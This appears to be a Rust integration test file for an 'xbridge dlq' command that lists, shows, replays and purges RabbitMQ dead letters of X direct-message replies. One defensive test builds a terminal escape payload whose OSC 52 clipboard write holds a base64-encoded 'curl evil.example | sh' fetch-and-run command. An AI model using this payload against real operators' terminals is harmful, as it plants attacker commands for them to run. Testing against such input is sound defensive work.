//! `xbridge dlq …` end to end: the real binary against the test's RabbitMQ
//! topology, with the bridge running in process against the X simulator. The
//! credits story (outage, dead letters, top-up, replay, each reply sent
//! exactly once), replays of replies that were already sent, `--dry-run` and
//! filters.

mod common;

use chrono::{Duration as Age, Utc};
use lapin::options::{BasicPublishOptions, ConfirmSelectOptions};
use lapin::types::{AMQPValue, FieldArray, FieldTable};
use lapin::{BasicProperties, Connection, ConnectionProperties};
use serde_json::Value;

use common::start_bridge;
use x_simulator::Fault;
use xbridge_amqp::FailureHeaders;
use xbridge_test_support::{amqp_url, spawn_app, Crm, TestApp, TestOptions};

fn reply(message_id: &str, recipient: &str) -> Value {
    xbridge_test_support::reply(message_id, recipient, &format!("reply {message_id}"))
}

/// Runs `xbridge dlq ARGS --config <the test's config>`; returns the exit
/// success and stdout (stderr is appended for failure messages).
async fn dlq(app: &TestApp, args: &[&str]) -> (bool, String) {
    let config = app.write_config();
    let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_xbridge"))
        .arg("dlq")
        .args(args)
        .arg("--config")
        .arg(&config)
        .output()
        .await
        .expect("xbridge runs");
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    (output.status.success(), format!("{stdout}{stderr}"))
}

async fn dlq_ok(app: &TestApp, args: &[&str]) -> String {
    let (ok, output) = dlq(app, args).await;
    assert!(ok, "xbridge dlq {args:?} failed:\n{output}");
    output
}

/// A CRM that leaves the dead letters where `xbridge dlq` finds them.
async fn crm(app: &TestApp) -> Crm {
    Crm::connect_without_dead_letters(&amqp_url(), app.names.clone()).await
}

/// The message ids of the table rows, in order.
fn listed_ids(output: &str) -> Vec<String> {
    output
        .lines()
        .skip_while(|l| !l.starts_with("MESSAGE_ID"))
        .skip(1)
        .filter(|l| !l.starts_with('('))
        .filter_map(|l| l.split_whitespace().next().map(str::to_owned))
        .collect()
}

/// Publishes a dead letter the way the bridge does (to the dead-letter
/// exchange under the channel, with our failure headers), confirmed.
async fn craft_dead_letter(
    app: &TestApp,
    channel: &str,
    body: &Value,
    reason: &str,
    failed_ago: Age,
) {
    craft_dead_letter_with(app, channel, body, reason, failed_ago, None).await
}

/// [`craft_dead_letter`] with headers of the reply's own (`x-death`, the CRM's).
async fn craft_dead_letter_with(
    app: &TestApp,
    channel: &str,
    body: &Value,
    reason: &str,
    failed_ago: Age,
    own_headers: Option<&FieldTable>,
) {
    let connection = Connection::connect(&amqp_url(), ConnectionProperties::default())
        .await
        .expect("connect");
    let amqp = connection.create_channel().await.expect("channel");
    amqp.confirm_select(ConfirmSelectOptions::default())
        .await
        .expect("confirm mode");
    let at = Utc::now() - failed_ago;
    let headers = FailureHeaders {
        attempts: 3,
        first_failure_at: Some(at),
        last_failure_at: Some(at),
        reason: Some(reason.to_owned()),
        detail: Some(format!("crafted: {reason}")),
        channel: Some(channel.to_owned()),
        original_exchange: Some(app.names.outgoing_exchange.clone()),
        original_routing_key: Some(channel.to_owned()),
        ..FailureHeaders::default()
    }
    .apply_to(own_headers);
    let confirm = amqp
        .basic_publish(
            app.names.dead_letter_exchange.as_str().into(),
            channel.into(),
            BasicPublishOptions::default(),
            &serde_json::to_vec(body).unwrap(),
            BasicProperties::default()
                .with_content_type("application/json".into())
                .with_delivery_mode(2)
                .with_headers(headers),
        )
        .await
        .expect("publish")
        .await
        .expect("confirm");
    assert!(confirm.is_ack());
    let _ = connection.close(200, "done".into()).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credits_run_out_then_a_replay_after_the_top_up_sends_each_reply_exactly_once() {
    // The wait bound is counted from the AMQP timestamp, which has one-second
    // resolution: a replayed reply must not start out at the bound.
    let app = spawn_app(TestOptions {
        credits: "max_wait = \"3s\"\nprobe_initial = \"100ms\"\nprobe_max = \"300ms\"\n".into(),
        ..TestOptions::default()
    })
    .await;
    let user = app.user_id("acme");
    app.simulator.set_fault(&user, Fault::CreditsDepleted);
    let bridge = start_bridge(&app).await;
    let mut crm = crm(&app).await;

    // The outage: three replies, each dead-lettered after the credits wait.
    for (id, to) in [("c-1", "111"), ("c-2", "111"), ("c-3", "222")] {
        crm.publish_reply("acme", &reply(id, to)).await;
    }
    // The bridge tells the CRM only after the dead letter is confirmed.
    for event in crm.events(3).await {
        assert_eq!(event.body["type"], "message.failed");
        assert_eq!(event.body["reason"], "credits_exhausted");
    }
    let dlq_name = app.names.dead_letter_queue.clone();
    assert_eq!(crm.queue_depth(&dlq_name).await, 3);

    // The top-up.
    app.simulator.clear_faults(&user);

    let listing = dlq_ok(&app, &["list"]).await;
    assert!(
        listing
            .lines()
            .any(|l| l.split_whitespace().collect::<Vec<_>>() == ["acme", "credits_exhausted", "3"]),
        "counts by channel and reason:\n{listing}"
    );
    let mut ids = listed_ids(&listing);
    ids.sort();
    assert_eq!(ids, ["c-1", "c-2", "c-3"], "{listing}");
    // List changes nothing: its reads are requeued (a moment after the
    // command's connection closes, on a quorum queue).
    crm.wait_for_depth(&dlq_name, 3).await;

    let shown = dlq_ok(&app, &["show", "c-2"]).await;
    assert!(shown.contains("credits_exhausted"), "{shown}");
    assert!(shown.contains("\"reply c-2\""), "{shown}");

    let dry = dlq_ok(
        &app,
        &["replay", "--reason", "credits_exhausted", "--dry-run"],
    )
    .await;
    assert!(dry.contains("would replay 3 dead letter(s)"), "{dry}");
    // --dry-run changes nothing.
    crm.wait_for_depth(&dlq_name, 3).await;
    assert!(app.simulator.sent_dms_for(&user).is_empty());

    let replayed = dlq_ok(&app, &["replay", "--reason", "credits_exhausted"]).await;
    assert!(replayed.contains("replayed 3 dead letter(s)"), "{replayed}");

    let mut sent: Vec<String> = crm
        .events(3)
        .await
        .into_iter()
        .inspect(|e| assert_eq!(e.body["type"], "message.sent", "{}", e.body))
        .map(|e| e.body["message_id"].as_str().unwrap().to_owned())
        .collect();
    sent.sort();
    assert_eq!(sent, ["c-1", "c-2", "c-3"]);
    let mut texts: Vec<String> = app
        .wait_for_dms("acme", 3)
        .await
        .into_iter()
        .map(|d| d.text)
        .collect();
    texts.sort();
    assert_eq!(texts, ["reply c-1", "reply c-2", "reply c-3"]);
    assert_eq!(crm.queue_depth(&dlq_name).await, 0);

    // A later reply in a replayed conversation is sent after them: by then
    // nothing else is in flight, and X saw each replayed reply exactly once.
    crm.publish_reply("acme", &reply("c-4", "111")).await;
    let event = crm.next_event().await;
    assert_eq!(event.body["message_id"], "c-4");
    assert_eq!(app.simulator.sent_dms_for(&user).len(), 4);

    bridge.stop().await;
    app.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn replaying_a_reply_that_was_already_sent_sends_nothing() {
    let app = spawn_app(TestOptions::default()).await;
    let user = app.user_id("acme");
    let bridge = start_bridge(&app).await;
    let mut crm = crm(&app).await;

    crm.publish_reply("acme", &reply("s-1", "111")).await;
    assert_eq!(crm.next_event().await.body["type"], "message.sent");
    app.wait_for_dms("acme", 1).await;

    // A stale dead letter of the same reply (e.g. dead-lettered by a bridge
    // that crashed after sending but before recording it as settled).
    craft_dead_letter(
        &app,
        "acme",
        &reply("s-1", "111"),
        "credits_exhausted",
        Age::zero(),
    )
    .await;
    let replayed = dlq_ok(&app, &["replay", "--reason", "credits_exhausted"]).await;
    assert!(replayed.contains("replayed 1 dead letter(s)"), "{replayed}");

    // The next reply of the conversation is handled after the replayed copy.
    crm.publish_reply("acme", &reply("s-2", "111")).await;
    let event = crm.next_event().await;
    assert_eq!(event.body["message_id"], "s-2", "no second event for s-1");
    assert_eq!(event.body["type"], "message.sent");
    let texts: Vec<String> = app
        .simulator
        .sent_dms_for(&user)
        .into_iter()
        .map(|d| d.text)
        .collect();
    assert_eq!(texts, ["reply s-1", "reply s-2"], "s-1 was not sent again");
    assert_eq!(crm.queue_depth(&app.names.dead_letter_queue).await, 0);

    bridge.stop().await;
    app.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn filters_dry_runs_and_purge_leave_everything_else_in_place() {
    let app = spawn_app(TestOptions {
        channels: vec!["acme".into(), "beta".into()],
        ..TestOptions::default()
    })
    .await;
    let bridge = start_bridge(&app).await; // declares the topology
    let crm = crm(&app).await;
    let dlq_name = app.names.dead_letter_queue.clone();

    let letters = [
        ("a-1", "acme", "credits_exhausted", Age::minutes(1)),
        ("a-2", "acme", "recipient_refuses", Age::hours(2)),
        ("b-1", "beta", "credits_exhausted", Age::minutes(5)),
    ];
    for (id, channel, reason, ago) in letters {
        craft_dead_letter(&app, channel, &reply(id, "111"), reason, ago).await;
    }
    assert_eq!(crm.queue_depth(&dlq_name).await, 3);

    // Reading keeps the queue's order, every time.
    let all = dlq_ok(&app, &["list"]).await;
    assert_eq!(listed_ids(&all), ["a-1", "a-2", "b-1"], "{all}");
    let again = dlq_ok(&app, &["list"]).await;
    assert_eq!(listed_ids(&again), ["a-1", "a-2", "b-1"], "{again}");

    let beta = dlq_ok(&app, &["list", "--channel", "beta"]).await;
    assert_eq!(listed_ids(&beta), ["b-1"], "{beta}");
    let old = dlq_ok(&app, &["list", "--older-than", "30m"]).await;
    assert_eq!(listed_ids(&old), ["a-2"], "{old}");
    let dry = dlq_ok(
        &app,
        &[
            "replay",
            "--channel",
            "acme",
            "--reason",
            "credits_exhausted",
            "--dry-run",
        ],
    )
    .await;
    assert!(dry.contains("would replay a-1"), "{dry}");
    assert!(dry.contains("would replay 1 dead letter(s)"), "{dry}");

    let (ok, refused) = dlq(&app, &["purge", "--channel", "beta"]).await;
    assert!(!ok, "purge without --yes must refuse:\n{refused}");
    assert!(refused.contains("--yes"), "{refused}");
    let dry = dlq_ok(
        &app,
        &["purge", "--reason", "recipient_refuses", "--dry-run"],
    )
    .await;
    assert!(dry.contains("would drop 1 dead letter(s)"), "{dry}");
    // Dry runs change nothing (once the commands' reads are requeued).
    crm.wait_for_depth(&dlq_name, 3).await;

    let purged = dlq_ok(&app, &["purge", "--reason", "recipient_refuses", "--yes"]).await;
    assert!(purged.contains("dropped a-2"), "{purged}");
    let rest = dlq_ok(&app, &["list"]).await;
    assert_eq!(listed_ids(&rest), ["a-1", "b-1"], "{rest}");
    // `list` reads and requeues; the quorum queue takes them back when the
    // command's connection closes, a moment later.
    crm.wait_for_depth(&dlq_name, 2).await;

    let (ok, missing) = dlq(&app, &["show", "nope"]).await;
    assert!(!ok && missing.contains("no dead letter"), "{missing}");

    bridge.stop().await;
    app.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_replay_that_dies_half_way_loses_nothing() {
    use xbridge_amqp::dead_letters::{DeadLetterQueue, ReadBound};

    let app = spawn_app(TestOptions::default()).await;
    // The bridge declares the topology, then stops, so the replayed copy
    // stays in the channel's queue where the test can count it.
    start_bridge(&app).await.stop().await;
    for id in ["d-1", "d-2", "d-3"] {
        craft_dead_letter(
            &app,
            "acme",
            &reply(id, "111"),
            "credits_exhausted",
            Age::zero(),
        )
        .await;
    }
    let crm = crm(&app).await;

    let connection = Connection::connect(&amqp_url(), ConnectionProperties::default())
        .await
        .expect("connect");
    let mut queue = DeadLetterQueue::open(&connection, app.names.clone())
        .await
        .expect("open");
    // A command reads no more than its bound, says there is more, and gives
    // back what it read, in order.
    let bounded = ReadBound {
        letters: 2,
        bytes: usize::MAX,
    };
    let first_two = queue.take(bounded).await.expect("read");
    assert!(first_two.more);
    let ids: Vec<String> = first_two.letters.iter().map(|l| l.id()).collect();
    assert_eq!(ids, ["d-1", "d-2"]);
    queue.release_rest().await.expect("give back");
    let taken = queue.take(ReadBound::default()).await.expect("read");
    assert!(!taken.more);
    let letters = taken.letters;
    assert_eq!(letters.len(), 3);
    queue.replay(&letters[0]).await.expect("replay one");
    // The "crash": the connection goes away with two letters still held.
    connection.close(320, "crash".into()).await.expect("close");

    // The confirmed copy is in the channel's queue; the rest are back in
    // the dead-letter queue.
    crm.wait_for_depth(&app.names.outgoing_queue("acme"), 1)
        .await;
    crm.wait_for_depth(&app.names.dead_letter_queue, 2).await;
    let listing = dlq_ok(&app, &["list"]).await;
    let mut ids = listed_ids(&listing);
    ids.sort();
    let replayed = letters[0].id();
    let expected: Vec<String> = ["d-1", "d-2", "d-3"]
        .into_iter()
        .filter(|id| *id != replayed)
        .map(str::to_owned)
        .collect();
    assert_eq!(ids, expected, "{listing}");

    // Run again: the rest are replayed, and with the bridge running each
    // reply is sent exactly once (a marker in the same conversation comes last).
    dlq_ok(&app, &["replay"]).await;
    assert_eq!(crm.queue_depth(&app.names.dead_letter_queue).await, 0);
    let bridge = start_bridge(&app).await;
    crm.publish_reply("acme", &reply("marker", "111")).await;
    let mut sent: Vec<String> = app
        .wait_for_dms("acme", 4)
        .await
        .into_iter()
        .map(|dm| dm.text)
        .collect();
    assert_eq!(sent.len(), 4, "{sent:?}");
    assert_eq!(
        sent.pop().unwrap(),
        reply("marker", "111")["text"].as_str().unwrap()
    );
    sent.sort();
    let mut expected: Vec<String> = ["d-1", "d-2", "d-3"]
        .iter()
        .map(|id| reply(id, "111")["text"].as_str().unwrap().to_owned())
        .collect();
    expected.sort();
    assert_eq!(sent, expected, "each replayed reply sent exactly once");

    bridge.stop().await;
    app.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_kept_webhook_body_is_listed_and_shown_never_replayed_and_can_be_purged() {
    use xbridge_inbound::delivery::sink::InboundDeadLetter;

    let app = spawn_app(TestOptions::default()).await;
    // The bridge declares the topology, then stops, so a replayed copy would
    // stay in the channel's queue where the test can count it.
    start_bridge(&app).await.stop().await;
    craft_dead_letter(
        &app,
        "acme",
        &reply("r-1", "111"),
        "credits_exhausted",
        Age::zero(),
    )
    .await;
    // A webhook body for an account no channel is, kept the way the webhook does.
    let body = serde_json::json!({"for_user_id": "1111111111", "direct_message_events": []});
    let letter = InboundDeadLetter {
        channel: "acme".into(),
        message_id: "unknown_account:1111111111:954491830116155452".into(),
        reason: "unknown_account",
        detail: "no channel of that X App is this account".into(),
        body: serde_json::to_vec(&body).unwrap(),
    };
    let connection = Connection::connect(&amqp_url(), ConnectionProperties::default())
        .await
        .expect("connect");
    let amqp = connection.create_channel().await.expect("channel");
    amqp.confirm_select(ConfirmSelectOptions::default())
        .await
        .expect("confirm mode");
    let confirm = amqp
        .basic_publish(
            app.names.dead_letter_exchange.as_str().into(),
            "acme".into(),
            BasicPublishOptions::default(),
            &letter.body,
            letter.properties(Utc::now()),
        )
        .await
        .expect("publish")
        .await
        .expect("confirm");
    assert!(confirm.is_ack());
    let _ = connection.close(200, "done".into()).await;
    let crm = crm(&app).await;
    let dlq_name = app.names.dead_letter_queue.clone();

    let listing = dlq_ok(&app, &["list"]).await;
    assert_eq!(
        listed_ids(&listing),
        ["r-1", letter.message_id.as_str()],
        "{listing}"
    );
    assert!(
        listing
            .lines()
            .any(|l| l.split_whitespace().collect::<Vec<_>>() == ["acme", "unknown_account", "1"]),
        "{listing}"
    );
    crm.wait_for_depth(&dlq_name, 2).await;
    let shown = dlq_ok(&app, &["show", &letter.message_id]).await;
    assert!(shown.contains("direction:         inbound"), "{shown}");
    assert!(shown.contains("\"for_user_id\": \"1111111111\""), "{shown}");

    let replayed = dlq_ok(&app, &["replay"]).await;
    assert!(
        replayed.contains(&format!("skipped {}", letter.message_id)),
        "{replayed}"
    );
    assert!(replayed.contains("replayed 1 dead letter(s)"), "{replayed}");
    // Only the reply went to the channel's queue; the body stays kept.
    crm.wait_for_depth(&app.names.outgoing_queue("acme"), 1)
        .await;
    crm.wait_for_depth(&dlq_name, 1).await;
    assert_eq!(crm.queue_depth(&app.names.outgoing_queue("acme")).await, 1);

    let purged = dlq_ok(&app, &["purge", "--reason", "unknown_account", "--yes"]).await;
    assert!(
        purged.contains(&format!("dropped {}", letter.message_id)),
        "{purged}"
    );
    assert_eq!(crm.queue_depth(&dlq_name).await, 0);
    app.cleanup().await;
}

/// Runs `xbridge ARGS` with its standard output a pipe whose reading end is
/// already closed, like `xbridge dlq list | head -0`; returns the exit status
/// and stderr.
fn with_closed_stdout(args: &[&str]) -> (std::process::ExitStatus, String) {
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_xbridge"))
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("xbridge runs");
    drop(child.stdout.take());
    let output = child.wait_with_output().expect("xbridge ends");
    (
        output.status,
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn show_prints_headers_as_text_and_a_closed_pipe_ends_each_command_quietly() {
    let app = spawn_app(TestOptions::default()).await;
    let bridge = start_bridge(&app).await; // declares the topology
    let crm = crm(&app).await;
    let mut own = FieldTable::default();
    own.insert(
        "x-crm-trace".into(),
        AMQPValue::LongString("xb-trace-1".into()),
    );
    let mut death = FieldTable::default();
    death.insert("count".into(), AMQPValue::LongLongInt(2));
    death.insert("reason".into(), AMQPValue::LongString("expired".into()));
    own.insert(
        "x-death".into(),
        AMQPValue::FieldArray(FieldArray::from(vec![AMQPValue::FieldTable(death)])),
    );
    craft_dead_letter_with(
        &app,
        "acme",
        &reply("s-1", "111"),
        "credits_exhausted",
        Age::minutes(1),
        Some(&own),
    )
    .await;

    let shown = dlq_ok(&app, &["show", "s-1"]).await;
    assert!(shown.contains("  x-crm-trace: xb-trace-1\n"), "{shown}");
    assert!(
        shown.contains("  x-xbridge-reason: credits_exhausted\n"),
        "{shown}"
    );
    assert!(shown.contains("  x-xbridge-attempts: 3\n"), "{shown}");
    assert!(
        shown.contains("  x-death: [{count: 2, reason: expired}]\n"),
        "{shown}"
    );
    assert!(!shown.contains("LongString("), "{shown}");

    let config = app.write_config();
    let config = config.to_str().unwrap();
    for args in [
        vec!["dlq", "list", "--config", config],
        vec!["dlq", "show", "s-1", "--config", config],
        vec!["check-config", "--config", config],
    ] {
        let (status, stderr) = with_closed_stdout(&args);
        assert!(status.success(), "{args:?}: {status:?}\n{stderr}");
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
        assert!(stderr.is_empty(), "{args:?} stops quietly: {stderr}");
    }
    // Whatever the commands read went back to the queue.
    crm.wait_for_depth(&app.names.dead_letter_queue, 1).await;

    bridge.stop().await;
    app.cleanup().await;
}

/// Whoever may publish replies picks a dead letter's `message_id` and the
/// headers the bridge keeps from the reply; the operator reads them in a
/// terminal. Escape sequences in them must arrive as text: written raw they
/// can rewrite what the terminal shows, retitle it, or (OSC 52) fill the
/// operator's clipboard with a command of the attacker's choosing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_publisher_put_in_a_dead_letter_reaches_the_terminal_as_text() {
    let app = spawn_app(TestOptions::default()).await;
    let bridge = start_bridge(&app).await;
    let mut crm = crm(&app).await;
    let hostile = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{1b}[2J\u{9b}31m";
    let mut headers = FieldTable::default();
    for name in [
        "x-xbridge-problem-type",
        "x-xbridge-original-routing-key",
        "x-xbridge-dropped-headers",
        "x-crm-note",
    ] {
        headers.insert(name.into(), AMQPValue::LongString(hostile.into()));
    }
    // No text: the bridge dead-letters it as invalid_message, keeping these.
    let body = serde_json::json!({"message_id": format!("m{hostile}"), "recipient_id": "1"});
    crm.publish_with_properties(
        "acme",
        &serde_json::to_vec(&body).unwrap(),
        BasicProperties::default()
            .with_content_type("application/json".into())
            .with_headers(headers),
    )
    .await;
    let failed = crm.next_event().await;
    assert_eq!(failed.body["type"], "message.failed");

    let id = format!("m{hostile}");
    for args in [
        vec!["list"],
        vec!["show", id.as_str()],
        vec!["replay", "--dry-run"],
        vec!["purge", "--dry-run"],
    ] {
        let output = dlq_ok(&app, &args).await;
        let raw: Vec<char> = output
            .chars()
            .filter(|c| c.is_control() && *c != '\n')
            .collect();
        assert!(raw.is_empty(), "dlq {args:?} wrote {raw:?}:\n{output}");
    }
    assert!(dlq_ok(&app, &["list"]).await.contains("m\\u{1b}]52;c;"));

    bridge.stop().await;
    app.cleanup().await;
}

/// The `x-xbridge-*` headers a reply arrives with are the publisher's to
/// choose. Kept on the dead letter, `x-xbridge-original-routing-key` sent the
/// operator's replay of a reply for alpha to beta, out of beta's account: a
/// publisher allowed only alpha's routing key (RabbitMQ topic permissions)
/// reached another account through the replay.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_replay_goes_where_the_reply_was_published_whatever_its_headers_say() {
    let app = spawn_app(TestOptions {
        channels: vec!["alpha".into(), "beta".into()],
        ..TestOptions::default()
    })
    .await;
    let alpha = app.user_id("alpha");
    app.simulator.set_fault(
        &alpha,
        Fault::RecipientRefuses {
            participant_id: "111".into(),
        },
    );
    let bridge = start_bridge(&app).await;
    let mut crm = crm(&app).await;
    let mut headers = FieldTable::default();
    for (name, value) in [
        ("x-xbridge-original-routing-key", "beta"),
        ("x-xbridge-original-exchange", "elsewhere"),
    ] {
        headers.insert(name.into(), AMQPValue::LongString(value.into()));
    }
    crm.publish_with_properties(
        "alpha",
        &serde_json::to_vec(&reply("r-1", "111")).unwrap(),
        BasicProperties::default()
            .with_content_type("application/json".into())
            .with_headers(headers),
    )
    .await;
    let failed = crm.next_event().await;
    assert_eq!(
        failed.body["reason"], "recipient_refuses",
        "{}",
        failed.body
    );

    app.simulator.clear_faults(&alpha);
    let shown = dlq_ok(&app, &["show", "r-1"]).await;
    assert!(shown.contains("original key:      alpha\n"), "{shown}");
    dlq_ok(&app, &["replay"]).await;
    let sent = crm.next_event().await;
    assert_eq!(sent.routing_key, "alpha.message.sent", "{}", sent.body);
    assert_eq!(app.wait_for_dms("alpha", 1).await.len(), 1);
    assert!(app.simulator.sent_dms_for(&app.user_id("beta")).is_empty());

    bridge.stop().await;
    app.cleanup().await;
}
